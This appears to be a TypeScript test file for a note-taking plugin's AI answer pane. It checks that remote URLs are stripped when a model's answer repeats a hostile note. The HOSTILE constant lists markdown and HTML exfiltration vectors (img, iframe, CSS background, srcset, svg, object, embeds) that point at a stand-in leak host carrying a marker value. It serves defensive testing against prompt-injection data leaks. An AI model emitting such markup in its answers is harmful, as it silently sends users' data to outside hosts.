// Hostile answers in the pane: a model that pastes a hostile note verbatim, every way of loading a
// remote URL included, as if the sidecar's own check had missed them all (it strips them too:
// tests/test_security_hostile.py). Nothing in the pane may point at a remote URL.
import { describe, expect, it } from "vitest";
import type { AgentEvent } from "../../src/generated/contract";
import { Component, MarkdownRenderer } from "../../stub/obsidian";
import { done, loadPlugin } from "./helpers";

const LEAK = "http://127.0.0.1:9/leak?d=4931-violet";
const HOSTILE = [
	"The status board:",
	`![board](${LEAK}&via=markdown)`,
	`<img src="${LEAK}&via=img">`,
	"![ref][tracker]",
	"",
	`[tracker]: ${LEAK}&via=ref`,
	"",
	`<div style="background-image: url(${LEAK}&via=css)">styled</div>`,
	`<video poster="${LEAK}&via=poster"></video> <iframe src="${LEAK}&via=frame"></iframe>`,
	`<input type="image" src="${LEAK}&via=input"> <table background="${LEAK}&via=bg"></table>`,
	`<svg><image href="${LEAK}&via=svg"></image></svg> <link rel="stylesheet" href="${LEAK}&via=css2">`,
	`<picture><source srcset="${LEAK}&via=srcset 2x"></picture> <object data="${LEAK}&via=object"></object>`,
	`![[${LEAK}&via=embed]] ![dns](//exfil.invalid/4931-violet.png)`,
	"As shown in [[Inbox/Exfil media]].",
].join("\n");

/** Every attribute value and inline style in `root` that names a remote URL. */
function remoteReferences(root: Element): string[] {
	const found: string[] = [];
	for (const element of Array.from(root.querySelectorAll("*"))) {
		for (const attribute of Array.from(element.attributes)) {
			const value = attribute.value;
			const isLink = element.tagName === "A" && attribute.name === "href";
			if (!isLink && /(?:[a-z][a-z0-9+.-]*:)?\/\/[^\s]/i.test(value) && /127\.0\.0\.1|exfil/.test(value)) {
				found.push(`<${element.tagName.toLowerCase()} ${attribute.name}="${value}">`);
			}
		}
	}
	return found;
}

describe("a hostile answer", () => {
	it("would load remote URLs if rendered as it is (the check below is not vacuous)", async () => {
		const loaded = await loadPlugin();
		const el = document.createElement("div");
		await MarkdownRenderer.render(loaded.app, HOSTILE, el, "", new Component());
		expect(remoteReferences(el).length).toBeGreaterThan(0);
	});

	it("loads nothing remote when the answer pastes a hostile note verbatim", async () => {
		const loaded = await loadPlugin([done(HOSTILE, [])]);
		await loaded.plugin.openAskView(null);
		await loaded.view().ask("Show me the status board note.");
		const pane = loaded.app.sidebarEl;
		const answer = pane.querySelector(".vault-agent-answer")!;
		expect(remoteReferences(pane)).toEqual([]);
		for (const tag of ["img", "iframe", "video", "input", "table", "image", "link", "source", "object", "picture"]) {
			expect(answer.querySelectorAll(tag), tag).toHaveLength(0);
		}
		expect(answer.textContent).toContain("remote image not loaded: board");
		expect(pane.querySelector(".vault-agent-footer")?.textContent).toMatch(/remote images or tags were not loaded/);
	});

	it("renders the streaming answer as markdown, with nothing remote in it either", async () => {
		const script: AgentEvent[] = [
			{ event: "delta", text: `**Status** ![board](${LEAK}) <img src="${LEAK}"> see [[Inbox/Exfil media]]`, turn: 1 },
			{ event: "error", code: "model_unavailable", message: "the model went away" },
		];
		const loaded = await loadPlugin(script);
		await loaded.plugin.openAskView(null);
		const during: { bold: number; remote: string[] }[] = [];
		loaded.client.between = async () => {
			await new Promise((resolve) => setTimeout(resolve, 250)); // past the render throttle
			const answer = loaded.app.sidebarEl.querySelector(".vault-agent-answer")!;
			during.push({ bold: answer.querySelectorAll("strong").length, remote: remoteReferences(loaded.app.sidebarEl) });
		};
		await loaded.view().ask("Show me the status board note.");
		expect(during[0]).toEqual({ bold: 1, remote: [] });
		expect(remoteReferences(loaded.app.sidebarEl)).toEqual([]);
	});
});
